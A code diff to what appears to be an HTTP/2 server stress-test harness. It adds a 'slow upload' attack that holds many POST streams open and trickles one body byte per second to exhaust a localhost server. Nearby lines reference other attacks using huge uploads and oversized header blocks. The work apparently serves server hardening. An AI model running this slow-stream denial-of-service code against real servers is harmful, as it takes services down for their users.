@@ -34,6 +34,12 @@ enum Attack {
     /** 100 MB POSTs one after another, within the server's flow-control windows. */
     UPLOAD("upload", "/plaintext"),
     /**
+     * {@link #MAX_STREAMS} POSTs open at once, each sent one body byte a second and never ended
+     * (issue 50, item 2): a handler reading the body waits on each; a stream the server ends
+     * (408 from RequestReadTimeout's body stage, or a reset) is closed and replaced.
+     */
+    SLOW_UPLOAD("slow-upload", "/plaintext"),
+    /**
      * GETs whose header block is ~120 KiB of Huffman-coded values (192 KiB decoded: past the
      * 64 KiB header list limit, so each is answered 431), four in flight, one after another on
      * the connection the server keeps (issue 50, item 7).
@@ -246,6 +252,7 @@ enum Attack {
                     }
                 }
             }
+            case SLOW_UPLOAD -> slowUpload(c, Frames.postBlock("127.0.0.1:" + port, path), running);
             case HPACK_SIZE -> {
                 byte[] block = Frames.tableSizeUpdates(updates, 4096, get);
                 if (block.length > 16384) {
@@ -259,6 +266,50 @@ enum Attack {
                     c.streamsOpened++;
                     c.send(f, 1);
                 }
+            }
+        }
+    }
+
+    /**
+     * Keeps {@link #MAX_STREAMS} body-less POSTs open and sends each one byte of body a second.
+     * A stream the server answered (its END_STREAM) is ended with a last byte, one it reset is
+     * dropped, and both are replaced by new ones in the next second's batch.
+     */
+    private static void slowUpload(H2Conn c, byte[] post, BooleanSupplier running) throws IOException {
+        c.trackEnded();
+        java.util.List<Integer> open = new java.util.ArrayList<>();
+        Frames f = new Frames();
+        long next = System.nanoTime();
+        while (running.getAsBoolean() && c.open()) {
+            f.clear();
+            int frames = 0;
+            for (java.util.Iterator<Integer> it = open.iterator(); it.hasNext(); ) {
+                int id = it.next();
+                Boolean answered = c.ended(id);
+                if (answered != null) {
+                    it.remove();
+                    if (answered) {
+                        f.data(id, 1, true); // the server answered before the body ended: end ours
+                        frames++;
+                    }
+                }
+            }
+            while (open.size() < MAX_STREAMS) {
+                int id = c.nextStreamId();
+                f.headers(id, post, false);
+                c.streamsOpened++;
+                frames++;
+                open.add(id);
+            }
+            for (int id : open) {
+                f.data(id, 1, false);
+                frames++;
+            }
+            c.send(f, frames);
+            next += 1_000_000_000L;
+            long wait;
+            while ((wait = next - System.nanoTime()) > 0 && running.getAsBoolean() && c.open()) {
+                java.util.concurrent.locks.LockSupport.parkNanos(Math.min(wait, 100_000_000L));
             }
         }
     }
